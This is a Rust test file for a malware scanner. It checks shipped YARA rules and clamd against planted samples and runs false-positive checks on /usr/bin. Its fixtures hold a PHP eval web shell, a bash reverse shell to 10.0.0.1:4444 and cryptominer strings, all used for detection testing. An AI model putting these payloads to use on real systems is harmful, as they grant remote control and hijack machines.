//! Malware, found by the rules that we ship and by the real clamd, through the confined process.

#![allow(clippy::unwrap_used, reason = "helpers of tests are tests")]

mod common;

use std::fs;
use std::path::Path;

use common::{items, scan_with};
use portcullis_inventory::Item;
use portcullis_inventory::protocol::Source;
use portcullis_scan::Scanner;
use portcullis_testkit::clamd::{Daemon, TEST_FILES, eicar};
use portcullis_types::Digest;

const RULES: &str = include_str!("../../../config/malware/portcullis.yar");

/// What was found in a folder: path, engine and name.
fn found(scanner: &Scanner, root: &Path) -> Vec<(String, String, String)> {
    let scanned = scan_with(scanner, Source::Root(root.to_owned())).unwrap();
    let found = items(&scanned).into_iter().filter_map(|(path, item)| match item {
        Item::Malware(signature) => {
            let content = fs::read(root.join(&path)).unwrap();
            assert_eq!(signature.sha256, Digest::of(&content).hex());
            Some((path, signature.engine, signature.name))
        }
        _ => None,
    });
    found.collect()
}

fn with_rules(rules: &str) -> Scanner {
    let rules = vec![("portcullis.yar".to_owned(), rules.as_bytes().to_vec())];
    Scanner { rules, ..common::scanner() }
}

#[test]
fn the_rules_that_we_ship_find_what_they_are_for() {
    let root = tempfile::tempdir().unwrap();
    let miner = [
        &b"\x7fELF\x02\x01\x01"[..],
        b"...stratum+tcp://pool.example.com:3333...donate-level...cpu-max-threads-hint...randomx",
    ];
    for (name, content, rule) in [
        ("eicar", eicar(), Some("Eicar_Test_File")),
        ("eicar-within", [&b"x"[..], &eicar()].concat(), None),
        ("miner", miner.concat(), Some("Cryptominer_Program")),
        // Its documentation is none.
        ("miner.md", miner[1].to_vec(), None),
        ("shell.php", b"<?php\n@eval(base64_decode($_POST['x']));".to_vec(), Some("Php_Web_Shell")),
        ("form.php", b"<?php echo htmlspecialchars($_POST['x']);".to_vec(), None),
        (
            "back.sh",
            b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n".to_vec(),
            Some("Reverse_Shell_Script"),
        ),
        ("fine.sh", b"#!/bin/sh\nexec 3<>/dev/tcp/localhost/80\n".to_vec(), None),
    ] {
        fs::write(root.path().join(name), content).unwrap();
        let found = found(&with_rules(RULES), root.path());
        let wanted = rule.map(|rule| (name.to_owned(), "yara".to_owned(), rule.to_owned()));
        assert_eq!(found, Vec::from_iter(wanted), "{name}");
        fs::remove_file(root.path().join(name)).unwrap();
    }
}

#[test]
fn clamd_is_asked_about_every_file() {
    let daemon = Daemon::start();
    let root = tempfile::tempdir().unwrap();
    for at in 0..40 {
        fs::write(root.path().join(format!("clean-{at}")), format!("clean {at}")).unwrap();
    }
    fs::create_dir(root.path().join("app")).unwrap();
    fs::write(root.path().join("app/eicar"), eicar()).unwrap();
    let scanner = Scanner { clamd: Some(daemon.socket()), ..common::scanner() };
    let wanted =
        [("app/eicar".to_owned(), "clamav".to_owned(), "Own.Test.Eicar.UNOFFICIAL".to_owned())];
    assert_eq!(found(&scanner, root.path()), wanted);
    // More than clamd takes ends the session, not the scan; and it is told.
    fs::write(root.path().join("a-large"), vec![7; 3 << 20]).unwrap();
    let scanned = scan_with(&scanner, Source::Root(root.path().to_owned())).unwrap();
    let unread = items(&scanned).into_iter().filter(|(_, item)| matches!(item, Item::Unread(_)));
    assert_eq!(unread.map(|(path, _)| path).collect::<Vec<_>>(), ["a-large"]);
    assert_eq!(found(&scanner, root.path()), wanted);
}

/// Debian's `clamav-testfiles`: one program in archives, installers, mails, packers.
#[test]
fn what_clamd_unpacks_is_found() {
    let daemon = Daemon::start();
    let scanner = Scanner { clamd: Some(daemon.socket()), ..common::scanner() };
    let mut wanted: Vec<_> = fs::read_dir(TEST_FILES)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .map(|name| (name, "clamav".to_owned(), "Own.Test.Clam.UNOFFICIAL".to_owned()))
        .collect();
    wanted.sort();
    assert!(wanted.len() > 30, "{wanted:?}");
    assert_eq!(found(&scanner, Path::new(TEST_FILES)), wanted);
}

#[test]
fn an_engine_that_cannot_work_is_an_error() {
    let root = tempfile::tempdir().unwrap();
    let source = || Source::Root(root.path().to_owned());
    let scanner = Scanner { clamd: Some(root.path().join("nothing")), ..common::scanner() };
    let error = scan_with(&scanner, source()).unwrap_err().to_string();
    assert!(error.contains("clamd cannot be reached"), "{error}");
    let error =
        scan_with(&with_rules("rule a { condition: b }"), source()).unwrap_err().to_string();
    assert!(error.contains("portcullis.yar:1"), "{error}");
}

/// Debian's own programs, some thousand files, give no hit.
#[test]
fn the_rules_that_we_ship_find_nothing_in_clean_programs() {
    let scanner = with_rules(RULES);
    let scanned = scan_with(&scanner, Source::Root("/usr/bin".into())).unwrap();
    assert!(scanned.merged.layers()[0].table.len() > 100);
    let found = items(&scanned).into_iter().filter(|(_, item)| matches!(item, Item::Malware(_)));
    assert_eq!(found.map(|(path, _)| path).collect::<Vec<_>>(), Vec::<String>::new());
}
